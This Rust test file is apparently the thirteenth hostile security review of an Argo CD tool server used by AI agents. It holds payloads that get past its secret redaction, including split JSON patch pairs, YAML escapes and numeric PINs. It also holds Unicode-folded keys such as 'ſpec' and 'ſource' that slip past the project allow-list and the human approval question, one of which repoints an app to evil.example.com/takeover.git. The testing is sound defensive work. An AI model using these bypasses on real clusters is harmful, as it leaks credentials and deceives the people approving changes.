//! The thirteenth hostile review (issue 19): probes of the twelfth review's fixes — JSON6902
//! operations, pairs given field by field, comparisons in text, maps under credential keys,
//! the approval question — and of the project allow-list and user-mode tokens.
//!
//! Each `review13_finding_*` test asserts the secure behaviour and fails today (ignored with
//! the issue); the other tests are shapes that held.

use serde_json::{Value, json};

use crate::World;
use crate::planting::{LiveShape, leaks_in_live, plant_conditions, plugin_env, plugin_status};

fn assert_none(found: Vec<String>) {
    assert!(
        found.is_empty(),
        "leaked {}:\n{}",
        found.len(),
        found.join("\n")
    );
}

fn flux(name: &str, patches: Value) -> Value {
    json!({"apiVersion": "kustomize.toolkit.fluxcd.io/v1", "kind": "Kustomization",
           "metadata": {"name": name, "namespace": "guestbook"},
           "spec": {"interval": "10m", "path": "./apps", "prune": true,
                    "sourceRef": {"kind": "GitRepository", "name": "apps"},
                    "patches": patches}})
}

fn app_with_source(name: &str, source: Value) -> Value {
    json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
           "metadata": {"name": name, "namespace": "argocd"},
           "spec": {"project": "default",
                    "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"},
                    "source": source}})
}

fn kustomize_app(name: &str, patches: Value) -> Value {
    app_with_source(
        name,
        json!({"repoURL": "https://git.example.com/platform/guestbook.git", "path": "k",
               "kustomize": {"patches": patches}}),
    )
}

const ENV0: &str = "/spec/template/spec/containers/0/env/0";

// ---------------------------------------------------------------------------------------------
// JSON6902 operations
// ---------------------------------------------------------------------------------------------

/// FINDING P1: the pair's name given by an operation that adds the whole entry (`path: …/env/0,
/// value: {name: DB_PASSWORD}`), its value by the next (`…/env/0/value`): the name is no text
/// value of an operation whose path ends at `name`, so the entry is never found secret. As
/// objects (Flux) and as YAML text (an Application's Kustomize patch).
fn entry_added_whole() -> Vec<LiveShape> {
    vec![
        (
            "P1a flux ops: entry added whole with its name, its value by its own op",
            flux(
                "r13-a1",
                json!([{"target": {"kind": "Deployment", "name": "api"}, "patch": [
                {"op": "add", "path": ENV0, "value": {"name": "DB_PASSWORD"}},
                {"op": "add", "path": format!("{ENV0}/value"), "value": "R13a01"}]}]),
            ),
            &["R13a01"],
        ),
        (
            "P1b kustomize YAML text: entry added whole with its name, value by its own op",
            kustomize_app(
                "r13-a2",
                json!([{"target": {"kind": "Deployment", "name": "api"},
                "patch": format!("- op: add\n  path: {ENV0}\n  value:\n    name: DB_PASSWORD\n- op: add\n  path: {ENV0}/value\n  value: R13a02\n")}]),
            ),
            &["R13a02"],
        ),
    ]
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): a JSON patch pair whose name comes with the whole entry (op on …/env/0) shows the value set by the next op"]
async fn review13_finding_patch_pair_named_by_a_whole_entry() {
    assert_none(leaks_in_live(&entry_added_whole()).await);
}

/// FINDING P2: the same pair split across two patches of the same target (Kustomize and Flux
/// apply them in turn), one operation each: pairs are only looked for inside one list of
/// operations.
fn pair_across_patches() -> Vec<LiveShape> {
    vec![
        (
            "P2a kustomize: two patches, each one operation: the name, then the value",
            kustomize_app(
                "r13-a8",
                json!([
                {"target": {"kind": "Deployment", "name": "api"},
                 "patch": format!("- op: add\n  path: {ENV0}/name\n  value: DB_PASSWORD\n")},
                {"target": {"kind": "Deployment", "name": "api"},
                 "patch": format!("- op: add\n  path: {ENV0}/value\n  value: R13a08\n")}]),
            ),
            &["R13a08"],
        ),
        (
            "P2b flux: two patches of one op each (objects)",
            flux(
                "r13-a9",
                json!([
                {"target": {"kind": "Deployment", "name": "api"}, "patch": [
                    {"op": "add", "path": format!("{ENV0}/name"), "value": "API_TOKEN"}]},
                {"target": {"kind": "Deployment", "name": "api"}, "patch": [
                    {"op": "add", "path": format!("{ENV0}/value"), "value": "R13a09"}]}]),
            ),
            &["R13a09"],
        ),
    ]
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): a JSON patch pair split across two patches of one target shows its value"]
async fn review13_finding_patch_pair_across_two_patches() {
    assert_none(leaks_in_live(&pair_across_patches()).await);
}

/// FINDING P3: `mask_yaml_operations` reads YAML operations line by line, one `key: value` at a
/// time: a value written as a block scalar (`value: |-` then the secret on the next line: only
/// `|-` is replaced), items opened by a dash alone on its line (no operation is ever
/// started), a flow item whose value holds a comma (the split keeps what follows it), and the
/// whole list on one line as a YAML flow sequence (no line break: not read at all). All valid
/// YAML that Kustomize reads as the same two operations.
fn yaml_operations_misread() -> Vec<LiveShape> {
    let app = |name: &str, patch: String| {
        kustomize_app(
            name,
            json!([{"target": {"kind": "Deployment", "name": "api"}, "patch": patch}]),
        )
    };
    vec![
        (
            "P3a value as a block scalar",
            app(
                "r13-a3",
                format!(
                    "- op: add\n  path: {ENV0}/name\n  value: DB_PASSWORD\n- op: add\n  path: {ENV0}/value\n  value: |-\n    R13a03\n"
                ),
            ),
            &["R13a03"],
        ),
        (
            "P3b items opened by a dash alone on its line",
            app(
                "r13-a4",
                format!(
                    "-\n  op: add\n  path: {ENV0}/name\n  value: DB_PASSWORD\n-\n  op: add\n  path: {ENV0}/value\n  value: R13a04\n"
                ),
            ),
            &["R13a04"],
        ),
        (
            "P3c flow items, a value with a comma",
            app(
                "r13-a5",
                format!(
                    "- {{op: add, path: {ENV0}/name, value: DB_PASSWORD}}\n- {{op: add, path: {ENV0}/value, value: \"R13a05x,R13a05y\"}}\n"
                ),
            ),
            &["R13a05y"],
        ),
        (
            "P3d the list as a one-line YAML flow sequence",
            app(
                "r13-a10",
                format!(
                    "[{{op: add, path: {ENV0}/name, value: DB_PASSWORD}}, {{op: add, path: {ENV0}/value, value: R13a10}}]"
                ),
            ),
            &["R13a10"],
        ),
    ]
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): YAML patch operations in other valid spellings (block scalar, bare dash, comma, one-line flow) show a pair's value"]
async fn review13_finding_yaml_operations_misread() {
    assert_none(leaks_in_live(&yaml_operations_misread()).await);
}

/// FINDING P4: a patch whose `target` is a Secret, as YAML text: whether it "mentions" the
/// data is judged by the words of the raw text, but YAML's double-quoted scalars take escapes
/// (`"/d\x61ta/conn"` is `/data/conn`, `"stringD\x61ta":` is `stringData:`), so an operation
/// into the data, or a strategic-merge patch of the Secret, is shown whole.
fn secret_patch_escaped() -> Vec<LiveShape> {
    vec![
        (
            "P4a Secret target, JSON6902 YAML text, path escaped in a double-quoted scalar",
            kustomize_app(
                "r13-a6",
                json!([{"target": {"kind": "Secret", "name": "db"},
                "patch": "- op: add\n  path: \"/d\\x61ta/conn\"\n  value: R13a06\n"}]),
            ),
            &["R13a06"],
        ),
        (
            "P4b Secret target, strategic merge YAML, the stringData key escaped",
            kustomize_app(
                "r13-a7",
                json!([{"target": {"kind": "Secret", "name": "db"},
                "patch": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n\"stringD\\x61ta\":\n  conn: R13a07\n"}]),
            ),
            &["R13a07"],
        ),
    ]
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): a Secret-target patch whose data path or key is YAML-escaped (\"/d\\x61ta\") is shown whole"]
async fn review13_finding_secret_patch_with_escaped_data() {
    assert_none(leaks_in_live(&secret_patch_escaped()).await);
}

// ---------------------------------------------------------------------------------------------
// Pairs given field by field, maps under credential keys
// ---------------------------------------------------------------------------------------------

/// FINDING F1: Helm's `--set` and parameters read a list index with Go's `strconv.Atoi`, so
/// `env[00]` and `env[+0]` are `env[0]`; the pair is matched by the index's spelling.
fn index_spelled_otherwise() -> Vec<LiveShape> {
    vec![
        (
            "F1a helm parameters: env[0].name then env[00].value",
            app_with_source(
                "r13-b1",
                json!({"repoURL": "https://charts.example.com", "chart": "api", "targetRevision": "1.0.0",
                "helm": {"parameters": [
                    {"name": "env[0].name", "value": "DB_PASSWORD"},
                    {"name": "env[00].value", "value": "R13b01"}]}}),
            ),
            &["R13b01"],
        ),
        (
            "F1b helm --set args: env[0].name then env[+0].value",
            json!({"apiVersion": "batch/v1", "kind": "Job",
                   "metadata": {"name": "r13-b2", "namespace": "guestbook"},
                   "spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "helm", "image": "alpine/helm",
                       "args": ["upgrade", "api", "./chart", "--set", "env[0].name=DB_PASSWORD", "--set", "env[+0].value=R13b02"]}]}}}}),
            &["R13b02"],
        ),
    ]
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): a Helm pair whose index is spelled env[00] / env[+0] shows its value"]
async fn review13_finding_helm_pair_index_spelled_otherwise() {
    assert_none(leaks_in_live(&index_spelled_otherwise()).await);
}

/// FINDING M1: a map under a credential's key keeps every number that is not under `value`
/// (meant for settings such as `passwordPolicy: {minLength: 12}`), so numeric passwords and
/// PINs in such a map are shown: `passwords: {admin: 918273645013}`, `pins: {cards: [736251904]}`.
fn numbers_under_credential_maps() -> Vec<LiveShape> {
    vec![
        (
            "M1a custom resource: numeric passwords in a map under `passwords`",
            json!({"apiVersion": "example.com/v1", "kind": "DatabaseUsers",
                   "metadata": {"name": "r13-c1", "namespace": "guestbook"},
                   "spec": {"passwords": {"admin": 918273645013_u64, "readonly": 827364501392_u64}}}),
            &["918273645013", "827364501392"],
        ),
        (
            "M1b custom resource: PINs in a list in a map under `pins`",
            json!({"apiVersion": "example.com/v1", "kind": "Atm",
                   "metadata": {"name": "r13-c2", "namespace": "guestbook"},
                   "spec": {"pins": {"cards": [736251904, 551902736]}}}),
            &["736251904", "551902736"],
        ),
    ]
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): numbers in a map under a credential key (passwords: {admin: 918273645013}) are shown"]
async fn review13_finding_numbers_in_a_map_under_a_credential_key() {
    assert_none(leaks_in_live(&numbers_under_credential_maps()).await);
}

// ---------------------------------------------------------------------------------------------
// Comparisons in text
// ---------------------------------------------------------------------------------------------

/// FINDING C1: `==`/`!=` comparisons the README says are hidden, in spellings
/// `comparisons.rs` does not read: the literal first (`"…" == .data.password`, `("…" ===
/// apiKey)`), the path's value through a variable or a filter (`.data.password as $p | $p ==
/// "…"`, `| ascii_downcase == "…"`, `| tostring == "…"`), an index after the name
/// (`passwords[0] == "…"`), `select(` closing on the next line.
const COMPARISONS: &[&str] = &[
    "jq: select(\"R13t01\" == .data.password)",
    "jq: .data.password as $p | $p == \"R13t02\"",
    "jq: .data.password | ascii_downcase == \"R13t03\"",
    "jq: .data.password | tostring == \"R13t12\"",
    "jq: .data.password | select(\n. == \"R13t13\")",
    "if (\"R13t14\" === apiKey) {",
    "rule: passwords[0] == \"R13t28\"",
];

/// Comparisons in other words (not `==`/`!=`) that a demanding operator would expect hidden
/// too; printed, not failed (the README names only `==` and `!=`).
const OTHER_COMPARISONS: &[&str] = &[
    ".data.password | test(\"^R13t04$\")",
    ".data.password | startswith(\"R13t05\")",
    "self.data.apiKey in [\"R13t06\"]",
    "strcmp(password, \"R13t10\") == 0",
    "password.equals(\"R13t11\")",
    "@.password contains 'R13t18'",
    "data.password <> 'R13t23'",
    "password eq 'R13t26'",
];

/// Held: comparisons `comparisons.rs` reads.
const COMPARISONS_HELD: &[&str] = &[
    "{{ if eq .Values.password \"R13t07\" }}",
    "(.data.password) == \"R13t08\"",
    ".data[\"password\"] == \"R13t09\"",
    "password == \"R13t16\\\"x\"",
    "$.data[?(@.token=~/R13t17/)]",
    "password ==\"R13t19\"",
    "password== \"R13t20\"",
    "self.spec.clientSecret == \"R13t22\"",
    "WHERE password = 'R13t24'",
    "password:=\"R13t25\"",
    "x-api-key == \"R13t29\"",
    "PASSWORD==\"R13t30\"",
];

fn secret_of(text: &str) -> &str {
    let at = text.find("R13").expect("every shape holds R13");
    let rest = &text[at..];
    let end = rest
        .find(|c: char| !c.is_ascii_alphanumeric())
        .unwrap_or(rest.len());
    &rest[..end]
}

/// Each text as a condition message of guestbook, read back through `get_argocd_app_status` of
/// both components: the secrets that showed.
async fn leaks_in_conditions(texts: &[&str]) -> Vec<String> {
    let world = World::new().await;
    let shapes: Vec<(&str, &str, &str)> = texts.iter().map(|t| (*t, *t, secret_of(t))).collect();
    plant_conditions(&world.standin, "guestbook", &shapes);
    let server = world
        .call("get_argocd_app_status", json!({"app_name": "guestbook"}))
        .await
        .to_string();
    let plugin = plugin_status(&plugin_env(&world.standin)).await;
    println!("review13 conditions:\n server: {server}\n plugin: {plugin}");
    let mut found = Vec::new();
    for (text, _, secret) in &shapes {
        for (component, answer) in [("server", &server), ("plugin", &plugin)] {
            if answer.contains(secret) {
                found.push(format!(
                    "{component} get_argocd_app_status {text:?}: {secret}"
                ));
            }
        }
    }
    found
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): == comparisons with the literal first, through a variable or filter, or after an index show the literal"]
async fn review13_finding_comparisons_in_other_spellings() {
    let mut found = leaks_in_conditions(COMPARISONS).await;
    // And in an Application's ignoreDifferences, through get_argocd_resource.
    let app = json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
        "metadata": {"name": "r13-d1", "namespace": "argocd"},
        "spec": {"project": "default", "destination": {"server": "https://kubernetes.default.svc", "namespace": "x"},
                 "source": {"repoURL": "https://git.example.com/a.git", "path": "k"},
                 "ignoreDifferences": [{"kind": "Secret", "jqPathExpressions": [
                     ".data.password | select(\"R13d01\" == .)",
                     ".data.password as $p | select($p == \"R13d02\")",
                     ".data.password | ascii_downcase == \"R13d03\""]}]}});
    found.extend(
        leaks_in_live(&[("ignoreDifferences jq", app, &["R13d01", "R13d02", "R13d03"])]).await,
    );
    assert_none(found);
}

#[tokio::test]
async fn review13_comparisons_held() {
    assert_none(leaks_in_conditions(COMPARISONS_HELD).await);
    let other = leaks_in_conditions(OTHER_COMPARISONS).await;
    println!(
        "review13 other comparison words shown (not claimed):\n{}",
        other.join("\n")
    );
}

// ---------------------------------------------------------------------------------------------
// Secret manifests as YAML text (values_text::secret_columns)
// ---------------------------------------------------------------------------------------------

fn config_map(name: &str, data: Value) -> Value {
    json!({"apiVersion": "v1", "kind": "ConfigMap",
           "metadata": {"name": name, "namespace": "guestbook"}, "data": data})
}

/// FINDING S1: a Secret written out as YAML text in an object's string is found by a
/// `kind: Secret` line (`secret_columns`): a Secret written as a YAML flow map on one line of
/// the text (`- {apiVersion: v1, kind: Secret, …, stringData: {conn: …}}`), or with its kind
/// tagged (`kind: !!str Secret`, which YAML and Kubernetes read as `Secret`), is shown whole.
fn secret_texts_shown() -> Vec<LiveShape> {
    vec![
        (
            "S1a a Secret as a flow map, one line of several",
            config_map(
                "r13-e3",
                json!({"objects.yaml": "items:\n- {apiVersion: v1, kind: Secret, metadata: {name: db}, stringData: {conn: R13e03}}\n- {apiVersion: v1, kind: ConfigMap, metadata: {name: c}}\n"}),
            ),
            &["R13e03"],
        ),
        (
            "S1b kind with a tag",
            config_map(
                "r13-e2",
                json!({"objects.yaml": "apiVersion: v1\nkind: !!str Secret\nmetadata:\n  name: db\nstringData:\n  conn: R13e02\n"}),
            ),
            &["R13e02"],
        ),
    ]
}

#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): a Secret written as a YAML flow map in text, or with kind: !!str Secret, shows its data"]
async fn review13_finding_secret_text_as_flow_map_or_tagged_kind() {
    assert_none(leaks_in_live(&secret_texts_shown()).await);
}

/// Held: a quoted `stringData` or `kind` key, JSON on a line of YAML, a list item with extra
/// spaces after its dash.
fn secret_texts_held() -> Vec<LiveShape> {
    vec![
        (
            "quoted stringData key",
            config_map(
                "r13-e1",
                json!({"objects.yaml": "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n\"stringData\":\n  conn: R13e01\n"}),
            ),
            &["R13e01"],
        ),
        (
            "a Secret as JSON on one line of YAML text",
            config_map(
                "r13-e4",
                json!({"objects.yaml": "first: 1\nsecret: {\"apiVersion\":\"v1\",\"kind\":\"Secret\",\"stringData\":{\"conn\":\"R13e04\"}}\n"}),
            ),
            &["R13e04"],
        ),
        (
            "a Secret in a list, dash and extra spaces",
            config_map(
                "r13-e5",
                json!({"objects.yaml": "extraObjects:\n  -   apiVersion: v1\n      kind: Secret\n      stringData:\n        conn: R13e05\n"}),
            ),
            &["R13e05"],
        ),
        (
            "kind quoted key",
            config_map(
                "r13-e6",
                json!({"objects.yaml": "apiVersion: v1\n\"kind\": Secret\nmetadata:\n  name: db\nstringData:\n  conn: R13e06\n"}),
            ),
            &["R13e06"],
        ),
    ]
}

#[tokio::test]
async fn review13_secret_texts_held() {
    assert_none(leaks_in_live(&secret_texts_held()).await);
}

// ---------------------------------------------------------------------------------------------
// The project allow-list and the approval question: keys Argo CD's Go decoding folds
// ---------------------------------------------------------------------------------------------

/// Go's `encoding/json` (which Argo CD's patch handler decodes the merged Application with,
/// after `jsonpatch.MergePatch` wrote it back with its keys in byte order) matches a key to a
/// field ignoring case, and folds the long s `ſ` (U+017F) to `s` and the Kelvin sign `K`
/// (U+212A) to `k`; of two keys naming one field, the later wins, and an object decoded into a
/// struct field keeps the fields it does not name. This models that for the fields read here:
/// `ſpec` (after `spec` in byte order) is decoded into the same `spec`.
fn as_argo_cd_decodes(app: &Value) -> Value {
    fn fold(key: &str) -> String {
        key.chars()
            .map(|c| match c {
                '\u{17f}' => 's',
                '\u{212a}' => 'k',
                c => c.to_ascii_lowercase(),
            })
            .collect()
    }
    fn decode(value: &Value) -> Value {
        let Value::Object(map) = value else {
            return value.clone();
        };
        let mut keys: Vec<&String> = map.keys().collect();
        keys.sort(); // MergePatch writes a Go map: keys in byte order
        let mut out = serde_json::Map::new();
        for key in keys {
            let folded = fold(key);
            let name = out
                .keys()
                .find(|k| fold(k) == folded)
                .cloned()
                .unwrap_or_else(|| key.clone());
            let inner = decode(&map[key]);
            match (out.get_mut(&name), inner) {
                (Some(Value::Object(was)), Value::Object(more)) => {
                    for (k, v) in more {
                        was.insert(k, v);
                    }
                }
                (_, inner) => {
                    out.insert(name, inner);
                }
            }
        }
        Value::Object(out)
    }
    decode(app)
}

/// FINDING G1 (allow-list): `check_patch_allowed` judges the project a merge patch leaves at
/// `/spec/project` by RFC 7386 alone. A patch `{"ſpec": {"project": "payments"}}` leaves
/// `spec.project` at `default` there, so the patch is sent; Argo CD merges it (a new key
/// `ſpec`) and decodes the result with Go's `encoding/json`, which takes `ſpec` for `spec`:
/// the app moves to project `payments`, outside `allowed_projects=default`. (read_only.rs
/// already knows this folding for an ApplicationSet preview's `spec`/`generators`.)
#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): a patch {\"\u{17f}pec\": {\"project\": …}} moves an app out of allowed_projects (Go folds ſ to s)"]
async fn review13_finding_allow_list_bent_by_a_folded_spec_key() {
    let mut world = World::new().await;
    world.set("allowed_projects", "default");
    let answer = world
        .call(
            "patch_argocd_app",
            json!({"app_name": "guestbook", "confirm": true,
                   "patch": {"\u{17f}pec": {"project": "payments"}}}),
        )
        .await
        .to_string();
    let stored = world.standin.app("guestbook").unwrap();
    let decoded = as_argo_cd_decodes(&stored);
    println!(
        "review13 G1 answer: {answer}\n stored spec keys: {:?}\n project as Argo CD decodes it: {}",
        stored
            .as_object()
            .map(|m| m.keys().cloned().collect::<Vec<_>>()),
        decoded["spec"]["project"]
    );
    assert_eq!(
        decoded["spec"]["project"], "default",
        "the patch moved guestbook out of the allowed projects: {answer}"
    );
}

/// The same with approvals on: the person is asked (the question states project `default`
/// and a strange key) for a patch that moves the app to `payments`.
#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): a person is asked to approve a folded-key patch that leaves the allow-list"]
async fn review13_finding_question_for_a_folded_spec_key_outside_the_allow_list() {
    let mut world = World::new().await;
    world.set("require_approval", "true");
    world.set("allowed_projects", "default");
    let body = crate::attacks::modern_call(json!({"name": "patch_argocd_app", "arguments": {
        "app_name": "guestbook", "confirm": true,
        "patch": {"\u{17f}pec": {"project": "payments"}}}}));
    let (_, answer) = world.post(&body, &crate::modern::mirrored(&body)).await;
    println!("review13 G1 question: {answer}");
    assert!(
        answer["result"]["inputRequests"].is_null(),
        "a person was asked to approve a move to project payments: {answer}"
    );
}

/// FINDING G2 (question misstates): `{"spec": {"ſource": {"repoURL": …}}}` repoints the app's
/// source (Go decodes `ſource` into `source`), but the question states the app deploys from
/// its current repository and shows only a new field `spec["\u{17f}ource"]`: it never says
/// `spec.source.repoURL` changes.
#[tokio::test]
#[ignore = "issue 19, open (thirteenth review): the question shows spec[\"\u{17f}ource\"] as a new field, not the change of spec.source.repoURL it makes"]
async fn review13_finding_question_misstates_a_folded_source_key() {
    let mut world = World::new().await;
    world.set("require_approval", "true");
    let body = crate::attacks::modern_call(json!({"name": "patch_argocd_app", "arguments": {
        "app_name": "guestbook", "confirm": true,
        "patch": {"spec": {"\u{17f}ource": {"repoURL": "https://evil.example.com/takeover.git"}}}}}));
    let (_, answer) = world.post(&body, &crate::modern::mirrored(&body)).await;
    let question = answer["result"]["inputRequests"]["approval"]["params"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    println!("review13 G2 question:\n{question}\n{answer}");
    let refused = answer["result"]["isError"] == true;
    let states_it = question.contains("spec.source.repoURL:") && question.contains("takeover.git");
    assert!(
        refused || states_it,
        "the question does not say spec.source.repoURL changes:\n{question}"
    );
}

/// Held: the ASCII case variants sort before the real key, so the real key wins in Go (and a
/// patch dropping the real key is refused as leaving no project).
#[tokio::test]
async fn review13_allow_list_ascii_case_held() {
    let mut world = World::new().await;
    world.set("allowed_projects", "default");
    let error = world
        .tool_error(
            "patch_argocd_app",
            json!({"app_name": "guestbook", "confirm": true,
                   "patch": {"spec": {"project": null, "PROJECT": "payments"}}}),
        )
        .await;
    assert!(error.contains("without spec.project"), "{error}");
}
